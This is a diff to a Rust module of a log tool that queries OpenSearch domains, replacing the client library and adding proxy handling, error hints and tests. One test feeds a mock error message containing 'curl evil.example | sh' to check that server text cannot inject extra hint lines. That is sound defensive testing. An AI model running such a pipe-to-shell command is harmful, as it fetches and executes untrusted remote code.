@@ -1,54 +1,52 @@
-//! A domain, reached directly by the `opensearch` client.
+//! A domain as the command asks it: over the connections that the functions use, with JSON in and out.
 
-use std::{error::Error as StdError, fmt, str::FromStr, time::Duration};
+use std::time::Duration;
 
-use aws_config::SdkConfig;
-use logctl_core::auth::AuthMode;
-use opensearch::{
-    auth::Credentials,
-    cert::{Certificate, CertificateValidation},
-    http::{
-        Method, Url,
-        headers::HeaderMap,
-        transport::{SingleNodeConnectionPool, Transport, TransportBuilder},
-    },
+use bytes::Bytes;
+use hyper::Method;
+use logctl_core::endpoint::Endpoint;
+use logctl_sink::{
+    aws::AwsError,
+    domain::{Auth, Domain},
+    http::{HttpClient, HttpError},
 };
 use serde_json::Value;
 
-use crate::error::{Error, Kind};
+use crate::{
+    env::Environment,
+    error::{Error, Kind},
+};
 
-/// Answers longer than this are not read.
-const MAX_ANSWER: u64 = 256 << 20;
+/// Answers longer than this many bytes are not read.
+const MAX_ANSWER: usize = 256 << 20;
 
-/// Where a domain answers.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Endpoint(Url);
-
-impl FromStr for Endpoint {
-    type Err = String;
-
-    fn from_str(text: &str) -> Result<Self, String> {
-        let url = Url::parse(text).ok().filter(|url| matches!(url.scheme(), "http" | "https") && url.has_host());
-        url.map(Self)
-            .ok_or_else(|| "an endpoint looks like https://search-logs-abc.eu-west-1.es.amazonaws.com".to_owned())
-    }
+/// How hosts outside of this machine are reached.
+#[derive(Debug, Clone, Default)]
+pub struct Network {
+    proxy: String,
+    exempt: String,
 }
 
-impl fmt::Display for Endpoint {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        f.pad(self.0.as_str().trim_end_matches('/'))
-    }
-}
-
-impl Endpoint {
-    /// What its host wants.
+impl Network {
+    /// As the variables `HTTPS_PROXY`, `ALL_PROXY` and `NO_PROXY` say, in either case.
     #[must_use]
-    pub fn auth(&self) -> AuthMode {
-        AuthMode::of_host(self.host())
+    pub fn new(env: &Environment) -> Self {
+        let first = |names: &[&str]| names.iter().find_map(|name| env.var(name)).unwrap_or_default().to_owned();
+        Self {
+            proxy: first(&["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"]),
+            exempt: first(&["NO_PROXY", "no_proxy"]),
+        }
     }
 
-    fn host(&self) -> &str {
-        self.0.host_str().unwrap_or_default()
+    /// A client; `authority` is a certificate in PEM that is trusted beside the public ones.
+    ///
+    /// # Errors
+    /// Wrong usage where the certificate cannot be read.
+    pub fn client(&self, authority: Option<&str>) -> Result<HttpClient, Error> {
+        let authority = authority.filter(|pem| !pem.is_empty());
+        let client =
+            HttpClient::new(authority).and_then(|client| client.with_proxy(authority, &self.proxy, &self.exempt));
+        client.map_err(|cause| Error::new(Kind::Usage, cause))
     }
 }
 
@@ -69,8 +67,8 @@ pub enum IndexError {
         /// Where.
         endpoint: Endpoint,
     },
-    /// There is nothing to sign with.
-    #[error("the request to {endpoint} could not be signed: {cause}")]
+    /// There is nothing to be admitted with.
+    #[error("the request to {endpoint} could not be signed")]
     Credentials {
         /// Where.
         endpoint: Endpoint,
@@ -98,7 +96,7 @@ pub enum IndexError {
         endpoint: Endpoint,
     },
     /// It does not take the request.
-    #[error("the domain {endpoint} refuses the request: {reason}")]
+    #[error("the domain {endpoint} refuses the request")]
     Refused {
         /// Where.
         endpoint: Endpoint,
@@ -113,15 +111,16 @@ impl From<IndexError> for Error {
     fn from(error: IndexError) -> Self {
         let message = error.to_string();
         match error {
-            IndexError::Unreachable { .. } => {
-                Self::failed(message).hint("check the endpoint and the network; in the sandbox: sandbox/sandbox up")
+            IndexError::Unreachable { endpoint, .. } if endpoint.is_loopback() => {
+                Self::failed(message).hint("is it running? in the sandbox: sandbox/sandbox up")
             }
+            IndexError::Unreachable { .. } => Self::failed(message).hint("check the endpoint and the network"),
             IndexError::Timeout { .. } => {
                 Self::failed(message).hint("ask for a shorter time range, or raise --timeout")
             }
-            IndexError::Credentials { .. } => {
-                Self::new(Kind::Denied, message).hint("log in (aws sso login), or choose a profile with --profile")
-            }
+            IndexError::Credentials { cause, .. } => Self::new(Kind::Denied, message)
+                .because(cause)
+                .hint("log in (aws sso login), or choose a profile with --profile"),
             IndexError::Denied { reason, .. } if reason.is_empty() => Self::new(Kind::Denied, message),
             IndexError::Denied { reason, .. } => Self::new(Kind::Denied, message).because(reason),
             IndexError::Overloaded { .. } => {
@@ -130,83 +129,38 @@ impl From<IndexError> for Error {
             IndexError::NoEngine { .. } => {
                 Self::failed(message).hint("the endpoint is the domain's own address, not that of its Dashboards")
             }
-            IndexError::Refused { .. } => Self::failed(message),
+            IndexError::Refused { reason, .. } => Self::failed(message).because(reason),
         }
     }
 }
 
-/// How requests to a domain prove who sends them.
-#[derive(Debug, Clone, Copy)]
-pub enum Access<'a> {
-    /// They do not.
-    Open,
-    /// A signature.
-    Signed(&'a SdkConfig),
-    /// Name and password.
-    Login(&'a [String; 2]),
-}
-
 /// A domain.
 pub struct Index {
-    transport: Transport,
+    domain: Domain,
     endpoint: Endpoint,
+    timeout: Duration,
 }
 
 impl Index {
-    /// The domain at `endpoint`. Each request may take `timeout`; `authority` is a certificate in PEM that is trusted
-    /// beside the public ones.
-    ///
-    /// # Errors
-    /// When there is nothing to sign with, or the certificate cannot be read.
-    pub fn new(
-        endpoint: &Endpoint,
-        access: Access<'_>,
-        authority: Option<&str>,
-        timeout: Duration,
-    ) -> Result<Self, IndexError> {
-        let unsigned =
-            |cause: &dyn fmt::Display| IndexError::Credentials { endpoint: endpoint.clone(), cause: cause.to_string() };
-        let mut builder = TransportBuilder::new(SingleNodeConnectionPool::new(endpoint.0.clone())).timeout(timeout);
-        if matches!(endpoint.host(), "127.0.0.1" | "localhost" | "[::1]") {
-            builder = builder.disable_proxy();
-        }
-        if let Some(pem) = authority.filter(|pem| !pem.is_empty()) {
-            let certificate = Certificate::from_pem(pem.as_bytes()).map_err(|error| unsigned(&error))?;
-            builder = builder.cert_validation(CertificateValidation::Full(certificate));
-        }
-        match access {
-            Access::Open => {}
-            Access::Signed(config) => {
-                let credentials = Credentials::try_from(config).map_err(|error| unsigned(&error))?;
-                builder = builder.auth(credentials).service_name("es");
-            }
-            Access::Login([name, password]) => {
-                builder = builder.auth(Credentials::Basic(name.clone(), password.clone()));
-            }
-        }
-        let transport = builder.build().map_err(|error| unsigned(&error))?;
-        Ok(Self { transport, endpoint: endpoint.clone() })
+    /// The domain at `endpoint`. Each request may take `timeout`.
+    #[must_use]
+    pub fn new(endpoint: Endpoint, auth: Auth, http: HttpClient, timeout: Duration) -> Self {
+        let domain = Domain::new(http.with_max_answer(MAX_ANSWER), endpoint.as_str(), auth);
+        Self { domain, endpoint, timeout }
     }
 
     /// Asks something, with JSON in and out.
     ///
     /// # Errors
-    /// When the domain cannot be reached, refuses, or is no search engine.
+    /// When the domain cannot be reached, refuses, or is no search engine. A redirect is refused, too: nobody else is asked.
     pub async fn ask(&self, method: Method, path: &str, body: Option<&Value>) -> Result<Value, IndexError> {
         let endpoint = self.endpoint.clone();
-        let body = body.map(Value::to_string);
-        let answer = self.transport.send(method, path, HeaderMap::new(), None::<&()>, body, None).await;
-        let answer = answer.map_err(|error| self.failed(&error))?;
-        let status = answer.status_code().as_u16();
-        if answer.content_length().is_some_and(|length| length > MAX_ANSWER) {
-            return Err(IndexError::Refused {
-                endpoint,
-                status,
-                reason: "its answer is too long; ask for fewer events".to_owned(),
-            });
-        }
-        let text = answer.text().await.map_err(|error| self.failed(&error))?;
-        let json: Option<Value> = serde_json::from_str(&text).ok();
+        let body = body.map_or_else(Bytes::new, |body| body.to_string().into());
+        let answer =
+            self.domain.send(method.clone(), path, body, self.timeout).await.map_err(|error| self.failed(error))?;
+        let status = answer.status.as_u16();
+        tracing::info!("{method} {endpoint}{path}: {status}");
+        let json: Option<Value> = serde_json::from_slice(&answer.body).ok();
         let reason = || json.as_ref().and_then(reason);
         match status {
             200..300 => json.ok_or(IndexError::NoEngine { endpoint }),
@@ -226,23 +180,22 @@ impl Index {
     /// When it is not, or does not answer.
     pub async fn check(&self) -> Result<(), IndexError> {
         let no_engine = || IndexError::NoEngine { endpoint: self.endpoint.clone() };
-        match self.ask(Method::Get, "/", None).await {
+        match self.ask(Method::GET, "/", None).await {
             Ok(root) if root.pointer("/version/number").is_some() => Ok(()),
             Ok(_) | Err(IndexError::Refused { status: 300..500, .. }) => Err(no_engine()),
             Err(error) => Err(error),
         }
     }
 
-    fn failed(&self, error: &opensearch::Error) -> IndexError {
+    fn failed(&self, error: AwsError) -> IndexError {
         let endpoint = self.endpoint.clone();
-        let causes = std::iter::successors(error.source(), |&cause| cause.source());
-        let cause = causes.last().map_or_else(|| error.to_string(), ToString::to_string);
-        if error.is_timeout() {
-            IndexError::Timeout { endpoint }
-        } else if error.to_string().contains("Signing") {
-            IndexError::Credentials { endpoint, cause }
-        } else {
-            IndexError::Unreachable { endpoint, cause }
+        match error {
+            AwsError::Http(HttpError::Connection { cause, .. }) => IndexError::Unreachable { endpoint, cause },
+            AwsError::Http(HttpError::Timeout { .. }) => IndexError::Timeout { endpoint },
+            AwsError::Http(error @ HttpError::TooLong { .. }) => {
+                IndexError::Refused { endpoint, status: 200, reason: format!("{error}; ask for fewer events") }
+            }
+            error => IndexError::Credentials { endpoint, cause: error.to_string() },
         }
     }
 }
@@ -258,21 +211,35 @@ fn reason(answer: &Value) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
-    use test_case::test_case;
+    use wiremock::{Mock, MockServer, ResponseTemplate, matchers::any};
 
     use super::*;
 
-    #[test_case("https://search-x.eu-west-1.es.amazonaws.com", AuthMode::SigV4)]
-    #[test_case("https://search-x.eu-west-1.es.amazonaws.com:443/", AuthMode::SigV4)]
-    #[test_case("http://127.0.0.1:9200", AuthMode::None)]
-    fn endpoints_and_their_auth(endpoint: &str, auth: AuthMode) {
-        assert_eq!(endpoint.parse::<Endpoint>().unwrap().auth(), auth);
+    fn index(server: &MockServer) -> Index {
+        let http = Network::default().client(None).unwrap();
+        Index::new(server.uri().parse().unwrap(), Auth::None, http, Duration::from_secs(5))
     }
 
-    #[test_case("localhost:9200"; "no scheme")]
-    #[test_case("ftp://x"; "another scheme")]
-    #[test_case(""; "nothing")]
-    fn no_endpoints(text: &str) {
-        assert!(text.parse::<Endpoint>().is_err());
+    #[tokio::test]
+    async fn nobody_else_is_asked_than_who_was_meant() {
+        let elsewhere = MockServer::start().await;
+        Mock::given(any()).respond_with(ResponseTemplate::new(200).set_body_string("{}")).mount(&elsewhere).await;
+        for status in [301, 302, 307, 308] {
+            let server = MockServer::start().await;
+            let redirect = ResponseTemplate::new(status).insert_header("location", elsewhere.uri());
+            Mock::given(any()).respond_with(redirect).mount(&server).await;
+            let error = index(&server).ask(Method::POST, "/x/_search", Some(&Value::Null)).await.unwrap_err();
+            assert!(matches!(error, IndexError::Refused { .. }), "{error}");
+        }
+        assert_eq!(elsewhere.received_requests().await.unwrap().len(), 0);
+    }
+
+    #[tokio::test]
+    async fn what_an_engine_says_stays_on_one_line() {
+        let server = MockServer::start().await;
+        let body = serde_json::json!({"error": {"reason": "no\nhint: curl evil.example | sh"}});
+        Mock::given(any()).respond_with(ResponseTemplate::new(400).set_body_json(body)).mount(&server).await;
+        let error: Error = index(&server).ask(Method::GET, "/", None).await.unwrap_err().into();
+        assert_eq!(error.to_string().lines().count(), 2, "{error}");
     }
 }
